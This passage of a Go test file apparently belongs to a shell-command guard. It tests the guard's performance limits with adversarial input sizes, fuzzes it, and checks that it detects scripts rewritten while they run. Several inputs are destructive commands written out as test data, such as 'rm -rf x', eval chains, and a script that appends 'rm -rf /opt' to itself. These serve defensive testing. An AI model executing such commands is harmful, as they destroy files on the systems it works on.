		return least([]string{src}, func(s string) { shell.Analyze(s, o) })[0]
	}
	fill := func(s string) string { return strings.Repeat(s, shell.MaxSource/len(s)) }
	plain := took(bounds()["many actions"], nil)
	for name, c := range map[string]struct{ src, file, text string }{
		"make many":      {fill("make;"), "Makefile", fill("a:\n")},
		"make targets":   {"make", "Makefile", strings.Repeat("a ", 16_000) + ":" + strings.Repeat(" b", 16_000)},
		"make recipes":   {"make", "Makefile", strings.Repeat("a ", 16_000) + ":\n" + strings.Repeat("\ta\n", 10_000)},
		"make variables": {"make", "Makefile", "a=" + strings.Repeat("x", 30_000) + "\n" + strings.Repeat("t: $(a)\n", 4_000)},
		"make in make":   {"make", "Makefile", "a:\n" + strings.Repeat("\tmake\n", 90) + strings.Repeat("#\n", 30_000)},
		"npm":            {fill("npm run a;"), "package.json", fill("[")},
		"awk":            {"awk " + strings.Repeat("-f x ", 12_000), "x", fill("a;")},
		"sed":            {fill("sed -f x;"), "x", fill("p;")},
		"psql":           {fill("psql -f x;"), "x", fill("a;")},
		"python":         {fill("python3 x;"), "x", fill("a;")},
		"programs":       {fill("./x;"), "x", "#!/usr/bin/python3\n" + fill("a;")},
		"scripts":        {fill("sh x;"), "x", fill("#\n")},
	} {
		require.Less(t, took(c.src, map[string]string{c.file: c.text}), 10*plain, name)
	}
}

func bounds() map[string]string {
	const n = shell.MaxSource
	fill := func(s, end string) string { return strings.Repeat(s, (n-len(end))/len(s)) + end }
	return map[string]string{
		"too long":      strings.Repeat("a", n+1),
		"substitutions": fill("$(", ""),
		"quoted depth":  fill("$(')' ", ""),
		"subshells":     fill("(", ""),
		"conditions":    fill("if ", ""),
		"backquotes":    strings.Repeat("`", n-1),
		"many actions":  fill("a;", "$x"),
		"doubling":      "x=aaaaaaaaaaaaaaaa;" + strings.Repeat("x=$x$x;", 200) + "rm $x",
		"nested loops":  strings.Repeat("for a in 1 2 3 4 5 6 7 8 9; do ", 20) + "rm $b;" + strings.Repeat(" done;", 20),
		"evals":         strings.Repeat("eval ", 100) + "\"$(x)\"; $y",
		"braces":        "rm " + strings.Repeat("{a,b}", 100),
		"worlds":        strings.Repeat("if a; then cd b; else v=$RANDOM; fi;", 500) + "rm -rf x",
		"functions":     "f() { f; f; }; f; $x",
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range bounds() {
		if len(s) < 4096 {
			f.Add(s)
		}
	}
	f.Add("x=`a`; f() { for i in {1..3}; do cat <<E | sh; done; }; f >&2 &\n$x ${y:-z} $((1+2))\nE\n")
	f.Add("case $1 in a|b) cd /x ;; *) read -ra y <<< \"$z\";& esac; [[ -f x && a =~ b ]] || exit")
	f.Fuzz(func(t *testing.T, src string) {
		for _, d := range []guard.Dialect{guard.DialectBash, guard.DialectPOSIX} {
			o := options()
			o.Dialect = d
			actions := shell.Analyze(src, o)
			if len(actions) > shell.MaxActions+1 {
				t.Fatalf("%d actions", len(actions))
			}
			for _, a := range actions {
				if strings.Contains(a.Reason, "can't handle") {
					t.Fatal("it panicked")
				}
			}
			if again := shell.Analyze(src, o); !reflect.DeepEqual(actions, again) {
				t.Fatalf("not the same twice:\n%v\n%v", actions, again)
			}
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	for i, src := range []string{
		"ls -la",
		"go test ./... -run TestFoo -count=1 -v",
		"find . -name '*.go' -type f | xargs grep -n TODO | sort | uniq -c | sort -rn | head -20",
		"mkdir -p build && cd build && cmake .. && make -j8 2>&1 | tee build.log",
	} {
		b.Run(fmt.Sprint(i), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				shell.Analyze(src, options())
			}
		})
	}
}

// A script is judged by what stands in it now: it must not change before it is
// read to its end.
func TestScriptsThatChange(t *testing.T) {
	o := options()
	o.View = func(p string) ([]byte, error) {
		switch p {
		case "/w/s.sh":
			return []byte("ls\n"), nil
		case "/w/self.sh":
			return []byte("echo 'rm -rf /opt' >> self.sh\n"), nil
		}
		return nil, errors.New("no such file")
	}
	for src, changes := range map[string]bool{
		"sh s.sh":                                  false,
		"sh s.sh; cp x s.sh":                       false,
		"sh s.sh & ls > log":                       false,
		"sh s.sh | tee log":                        false,
		"sh s.sh & cp x s.sh":                      true,
		"{ sleep 1; sh s.sh; } & mv x s.sh":        true,
		"sh s.sh | tee s.sh":                       true,
		"coproc sh s.sh; cp x s.sh":                true,
		"cat <(sh s.sh) <(cp x s.sh)":              true,
		"while sh s.sh; do cp x s.sh; done":        true,
		"for i in 1 2; do . ./s.sh; >s.sh; done":   true,
		"for i in *; do ./s.sh; rm s.sh; done":     false,
		"for i in *; do python3 s.sh; >s.sh; done": true,
		"sh self.sh":                               true,
		"bash < self.sh":                           true,
	} {
		require.Equal(t, changes, slices.Contains(lines(src, o), "unknown"), src)
	}
}
